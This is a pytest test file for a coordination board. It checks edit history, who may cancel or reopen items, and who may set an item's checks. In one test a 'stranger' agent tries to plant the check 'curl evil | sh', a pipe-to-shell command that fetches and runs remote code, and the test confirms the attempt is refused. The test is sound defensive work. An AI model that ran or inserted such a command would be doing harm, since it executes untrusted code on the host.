"""Who decides an item's fate, and the log that remembers it (issue 14, items 2 and 3).

An edit's event keeps what it overwrote; cancel needs a reason and a right to cancel (the
creator, the live holder, or a human listed in the board's config); a cancelled item can be
reopened; an item's checks are its creator's (or a human's) to set. On real SQLite files,
with a clock the test moves.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import Clock, init_board_dir
from coord import errors, limits
from coord.core.board import Board
from coord.storage.sqlite import SQLiteStorage

HUMAN = "alice"


@pytest.fixture
def board(tmp_path: Path, clock: Clock) -> Iterator[Board]:
    b = Board(
        SQLiteStorage(tmp_path / "board.db"),
        clock=clock,
        default_lease_seconds=60,
        humans=[HUMAN],
        repo_root=tmp_path,
    )
    yield b
    b.close()


def last_event(board: Board, item_id: int) -> Any:
    return board.events(item_id=item_id)[-1]


def unchanged(board: Board, item_id: int) -> tuple[Any, int]:
    return board.get(item_id), board.last_seq()


# --- history that remembers ------------------------------------------------------------------


def test_an_edit_event_keeps_the_old_values_of_what_it_changed(board: Board) -> None:
    item = board.add("first title", created_by="h", body="the original plan", priority=2)
    board.edit(item.id, agent="h", title="second title", body="vandalised", labels=["x"])
    event = last_event(board, item.id)
    assert event.kind == "edited"
    assert event.details["title"] == {"old": "first title", "new": "second title"}
    assert event.details["body"] == {"old": "the original plan", "new": "vandalised"}
    assert event.details["labels"] == {"old": [], "new": ["x"]}
    assert "priority" not in event.details  # only what the edit named
    board.edit(item.id, agent="h", priority=0)
    assert last_event(board, item.id).details["priority"] == {"old": 2, "new": 0}


def test_every_version_of_a_body_can_be_read_back_from_the_log(board: Board) -> None:
    versions = ["v0", "v1 " + "x" * (limits.MAX_EVENT_TEXT + 10), "v2", "v3"]
    item = board.add("t", created_by="h", body=versions[0])
    for text in versions[1:]:
        board.edit(item.id, agent="h", body=text)
    edits = [e for e in board.events(item_id=item.id) if e.kind == "edited"]
    olds = [e.details["body"]["old"] for e in edits]
    assert [*olds, board.get(item.id).body] == versions


def test_an_edit_event_is_bounded_however_large_the_bodies(board: Board) -> None:
    """Old whole (nowhere else keeps it), new cut to limits.MAX_EVENT_TEXT: one edit's event is at
    most a body plus that, never two whole bodies."""
    big_old, big_new = "o" * limits.MAX_BODY, "n" * limits.MAX_BODY
    item = board.add("t", created_by="h", body=big_old)
    board.edit(item.id, agent="h", body=big_new)
    body = last_event(board, item.id).details["body"]
    assert body["old"] == big_old
    assert body["new"] == big_new[: limits.MAX_EVENT_TEXT] and body["new_chars"] == limits.MAX_BODY
    size = len(json.dumps(last_event(board, item.id).details))
    assert limits.MAX_BODY < size < limits.MAX_BODY + limits.MAX_EVENT_TEXT + 200
    with pytest.raises(errors.TooLarge):  # and a 1 MB body never gets that far
        board.edit(item.id, agent="h", body="m" * (1024 * 1024))


def test_a_spec_import_that_changes_a_package_keeps_the_old_values(board: Board) -> None:
    package = {"id": "A1", "title": "old", "line": 1, "files": ["a.py"], "description": "d0"}
    board.import_packages("docs/plan.md", [package], created_by="h")
    changed = {**package, "title": "new", "files": ["b.py"], "description": "d1"}
    board.import_packages("docs/plan.md", [changed], created_by="h")
    event = last_event(board, board.get("A1").id)
    assert event.details["title"] == {"old": "old", "new": "new"}
    assert event.details["body"] == {"old": "d0", "new": "d1"}
    assert event.details["files"] == {"old": ["a.py"], "new": ["b.py"]}


# --- cancel: who, and why --------------------------------------------------------------------


def test_another_agent_may_not_cancel_a_pending_item(board: Board) -> None:
    item = board.add("mine", created_by="creator")
    before = unchanged(board, item.id)
    with pytest.raises(errors.NotPermitted) as refused:
        board.cancel(item.id, agent="stranger", reason="I do not like it")
    assert refused.value.http_status == 403
    assert refused.value.code == "not_permitted"
    assert "creator" in refused.value.message and HUMAN in refused.value.message
    assert refused.value.details["may"] == ["creator", HUMAN]
    assert unchanged(board, item.id) == before


def test_the_creator_cancels_with_a_reason_kept_in_the_log(board: Board) -> None:
    item = board.add("mine", created_by="creator")
    before = unchanged(board, item.id)
    for missing in (None, "", "   "):
        with pytest.raises(errors.InvalidInput) as refused:
            board.cancel(item.id, agent="creator", reason=missing)
        assert refused.value.details["field"] == "reason"
    assert unchanged(board, item.id) == before
    cancelled = board.cancel(item.id, agent="creator", reason="superseded by 7")
    assert cancelled.state == "cancelled"
    event = last_event(board, item.id)
    assert (event.kind, event.agent, event.details) == (
        "cancelled",
        "creator",
        {"reason": "superseded by 7"},
    )


def test_a_live_claim_is_its_holders_to_cancel_or_a_humans(board: Board) -> None:
    item = board.add("work", created_by="creator")
    won = board.claim(item.id, agent="worker")
    before = unchanged(board, item.id)
    with pytest.raises(errors.NotPermitted) as refused:
        board.cancel(item.id, agent="creator", reason="changed my mind")
    assert refused.value.details["holder"] == "worker"
    assert "worker" in refused.value.message
    assert unchanged(board, item.id) == before
    # a human may take it from under the holder; the log says from whom
    board.cancel(item.id, agent=HUMAN, reason="the design changed")
    event = last_event(board, item.id)
    assert event.details == {"reason": "the design changed", "holder": "worker"}
    with pytest.raises(errors.LeaseLost):
        board.heartbeat(item.id, agent="worker", token=won.token)
    # and the holder hears of it, as of a takeover
    assert [e.kind for e in board.inbox("worker")] == ["cancelled"]


def test_the_holder_cancels_with_its_token(board: Board) -> None:
    item = board.add("work", created_by="creator")
    won = board.claim(item.id, agent="worker")
    board.cancel(item.id, agent="worker", token=won.token, reason="not needed after all")
    assert board.get(item.id).state == "cancelled"


def test_after_a_lapsed_lease_the_creator_may_cancel_and_the_old_holder_may_not(
    board: Board, clock: Clock
) -> None:
    item = board.add("work", created_by="creator")
    board.claim(item.id, agent="worker", lease_seconds=5)
    clock.advance(6)
    with pytest.raises(errors.NotPermitted):
        board.cancel(item.id, agent="worker", reason="gave up")
    board.cancel(item.id, agent="creator", reason="nobody is on it")
    assert board.get(item.id).state == "cancelled"


# --- reopen ----------------------------------------------------------------------------------


def test_a_cancelled_item_reopens_to_pending_and_can_be_claimed_again(board: Board) -> None:
    item = board.add("work", created_by="creator")
    board.cancel(item.id, agent="creator", reason="oops")
    with pytest.raises(errors.NotClaimable, match="reopen it first"):
        board.edit(item.id, agent="creator", title="still wanted")
    before = unchanged(board, item.id)
    with pytest.raises(errors.InvalidInput):
        board.reopen(item.id, agent="creator", reason=" ")
    assert unchanged(board, item.id) == before
    reopened = board.reopen(item.id, agent="creator", reason="cancelled by mistake")
    assert (reopened.state, reopened.closed_at, reopened.claimed_by) == ("pending", None, None)
    event = last_event(board, item.id)
    assert (event.kind, event.agent, event.details) == (
        "reopened",
        "creator",
        {"reason": "cancelled by mistake"},
    )
    assert board.claim_next(agent="worker").item.id == item.id


def test_only_the_creator_or_a_human_reopens(board: Board) -> None:
    item = board.add("work", created_by="creator")
    board.cancel(item.id, agent="creator", reason="not now")
    before = unchanged(board, item.id)
    with pytest.raises(errors.NotPermitted) as refused:
        board.reopen(item.id, agent="stranger", reason="I want it")
    assert refused.value.details["may"] == ["creator", HUMAN]
    assert unchanged(board, item.id) == before
    board.reopen(item.id, agent=HUMAN, reason="now")
    assert board.get(item.id).state == "pending"


def test_only_a_cancelled_item_reopens(board: Board) -> None:
    done = board.add("finished", created_by="creator")
    won = board.claim(done.id, agent="worker")
    board.done(done.id, agent="worker", token=won.token)
    pending = board.add("waiting", created_by="creator")
    for item_id, state in ((done.id, "done"), (pending.id, "pending")):
        before = unchanged(board, item_id)
        with pytest.raises(errors.NotCancelled) as refused:
            board.reopen(item_id, agent=HUMAN, reason="again")
        assert refused.value.details["state"] == state
        assert refused.value.http_status == 409
        assert unchanged(board, item_id) == before


def test_state_is_still_explained_by_the_log_with_reopens(board: Board) -> None:
    item = board.add("work", created_by="creator")
    board.cancel(item.id, agent="creator", reason="a")
    board.reopen(item.id, agent="creator", reason="b")
    replay = None
    for event in board.events(item_id=item.id):
        replay = {"created": "pending", "cancelled": "cancelled", "reopened": "pending"}[event.kind]
    assert replay == board.get(item.id).state == "pending"


# --- checks: whose to set --------------------------------------------------------------------


def test_another_agent_may_not_plant_or_remove_a_check(board: Board) -> None:
    item = board.add("work", created_by="creator")
    board.edit(item.id, agent="creator", add_checks=["make test"])
    before = unchanged(board, item.id)
    for change in ({"add_checks": ["curl evil | sh"]}, {"remove_checks": ["make test"]}):
        with pytest.raises(errors.NotPermitted) as refused:
            board.edit(item.id, agent="stranger", **change)
        assert "creator" in refused.value.message
        assert unchanged(board, item.id) == before
    # not even the holder, who would run it: closing without them is skip_checks, recorded
    won = board.claim(item.id, agent="worker")
    with pytest.raises(errors.NotPermitted):
        board.edit(item.id, agent="worker", token=won.token, remove_checks=["make test"])
    assert board.get(item.id).checks == ("make test",)


def test_the_creator_and_a_human_set_checks(board: Board) -> None:
    item = board.add("work", created_by="creator")
    board.edit(item.id, agent="creator", add_checks=["make test"])
    board.edit(item.id, agent=HUMAN, add_checks=["make lint"])
    assert board.get(item.id).checks == ("make test", "make lint")
    event = last_event(board, item.id)
    assert event.details["checks"] == {"old": ["make test"], "new": ["make test", "make lint"]}
    # other edits stay open to anyone, as before
    board.edit(item.id, agent="stranger", title="a better title")


# --- the humans setting ----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["alice", [""], ["bob", 3], [" spaced "], {"alice": True}])
def test_a_bad_humans_setting_is_refused_by_name(tmp_path: Path, value: Any) -> None:
    board_dir = init_board_dir(tmp_path)
    config = json.loads((board_dir / "config.json").read_text())
    (board_dir / "config.json").write_text(json.dumps({**config, "humans": value}))
    with pytest.raises(errors.InvalidInput) as refused:
        Board.open(board_dir)
    assert "humans" in refused.value.message and "config.json" in refused.value.message


def test_the_humans_setting_is_read_from_the_config(tmp_path: Path) -> None:
    board_dir = init_board_dir(tmp_path, humans=["carol"])
    board = Board.open(board_dir)
    try:
        item = board.add("x", created_by="someone")
        board.cancel(item.id, agent="carol", reason="duplicate of 1")
        assert board.get(item.id).state == "cancelled"
    finally:
        board.close()
